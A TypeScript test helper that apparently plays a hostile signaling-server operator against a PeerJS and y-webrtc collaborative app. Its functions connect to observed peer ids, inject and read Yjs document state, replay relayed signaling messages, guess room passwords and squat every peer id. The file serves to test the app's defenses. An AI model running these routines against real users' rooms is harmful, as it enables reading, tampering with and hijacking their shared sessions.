// What a signaling-server operator can do with only what its server saw: connect to the PeerJS ids it
// saw registered and speak the Yjs sync protocol to them (read the room, write into it); subscribe to
// the y-webrtc topic it saw, replay every message it relayed, and join with a y-webrtc provider under
// that topic (without the secret it never saw). Bundled by the attack test and run in a page.
import { Peer } from 'peerjs';
import * as encoding from 'lib0/encoding';
import * as syncProtocol from 'y-protocols/sync';
import { WebrtcProvider } from 'y-webrtc';
import * as Y from 'yjs';

interface PeerServerSeen {
  readonly host: string;
  readonly port: number;
  readonly ids: readonly string[];
}

/** What came back: how many connections opened and every byte received (to search for the room). */
export interface Loot {
  opened: number;
  received: number[];
}

function frame(type: number, write: (encoder: encoding.Encoder) => void, chunked: boolean): Uint8Array {
  const encoder = encoding.createEncoder();
  if (chunked) encoding.writeUint8(encoder, 0);
  encoding.writeVarUint(encoder, type);
  write(encoder);
  return encoding.toUint8Array(encoder);
}

/** Connects to every PeerJS id seen and tries to read and write the room. */
async function attackPeerJs(seen: PeerServerSeen, marker: string): Promise<Loot> {
  const loot: Loot = { opened: 0, received: [] };
  const mine = new Y.Doc();
  mine.getMap('next').set('rematch', marker);
  const peer = new Peer(`operator-${Math.random().toString(36).slice(2)}`, { host: seen.host, port: seen.port, path: '/', secure: false, key: 'peerjs', config: { iceServers: [] } });
  await new Promise((resolve, reject) => {
    peer.on('open', resolve);
    peer.on('error', reject);
  });
  for (const id of seen.ids) {
    const conn = peer.connect(id, { serialization: 'raw', reliable: true });
    conn.on('open', () => {
      loot.opened++;
      // Today's framing (a 0 byte for a whole message), then sync step 1 and an update of its own.
      void conn.send(frame(0, (e) => syncProtocol.writeSyncStep1(e, new Y.Doc()), true));
      void conn.send(frame(0, (e) => syncProtocol.writeUpdate(e, Y.encodeStateAsUpdate(mine)), true));
    });
    conn.on('data', (data) => loot.received.push(...new Uint8Array(data as ArrayBuffer)));
  }
  await new Promise((resolve) => setTimeout(resolve, 4000));
  peer.destroy();
  return loot;
}

/** Replays what the y-webrtc signaling server relayed and joins under the topic it saw. */
async function attackYWebrtc(signalUrl: string, topic: string, relayed: readonly string[], marker: string): Promise<Loot> {
  const loot: Loot = { opened: 0, received: [] };
  const socket = new WebSocket(signalUrl);
  await new Promise((resolve) => (socket.onopen = resolve));
  socket.send(JSON.stringify({ type: 'subscribe', topics: [topic] }));
  for (const message of relayed) socket.send(message);
  socket.send(JSON.stringify({ type: 'publish', topic, data: { type: 'announce', from: 'operator' } }));
  // A provider under the topic, with no password and with the topic itself as one.
  const docs: Y.Doc[] = [];
  const providers: WebrtcProvider[] = [];
  for (const password of [undefined, topic]) {
    const doc = new Y.Doc();
    doc.getMap('next').set('rematch', marker);
    docs.push(doc);
    providers.push(new WebrtcProvider(topic, doc, { signaling: [signalUrl], ...(password ? { password } : {}), peerOpts: { config: { iceServers: [] } } }));
    await new Promise((resolve) => setTimeout(resolve, 2500));
    providers.at(-1)!.destroy();
  }
  socket.close();
  for (const doc of docs) {
    loot.received.push(...Y.encodeStateAsUpdate(doc));
    if (doc.getMap('meta').size > 0 || doc.getArray('seats').length > 0) loot.opened++;
  }
  return loot;
}

/**
 * Registers every id in `ids` at the PeerServer and holds it: a squatter on every slot. Half answer a
 * connection with silence, half with the sync protocol (as a stranger would). Resolves once all hold.
 */
async function squat(server: { host: string; port: number }, ids: readonly string[]): Promise<number> {
  let held = 0;
  await Promise.all(
    ids.map(
      (id, slot) =>
        new Promise<void>((resolve) => {
          const peer = new Peer(id, { host: server.host, port: server.port, path: '/', secure: false, key: 'peerjs', config: { iceServers: [] } });
          peer.on('open', () => {
            held++;
            resolve();
          });
          peer.on('error', () => resolve());
          peer.on('connection', (conn) => {
            if (slot % 2 === 0) return;
            conn.on('open', () => void conn.send(frame(0, (e) => syncProtocol.writeSyncStep1(e, new Y.Doc()), true)));
          });
        }),
    ),
  );
  return held;
}

declare global {
  interface Window {
    operator: { attackPeerJs: typeof attackPeerJs; attackYWebrtc: typeof attackYWebrtc; squat: typeof squat };
  }
}
window.operator = { attackPeerJs, attackYWebrtc, squat };
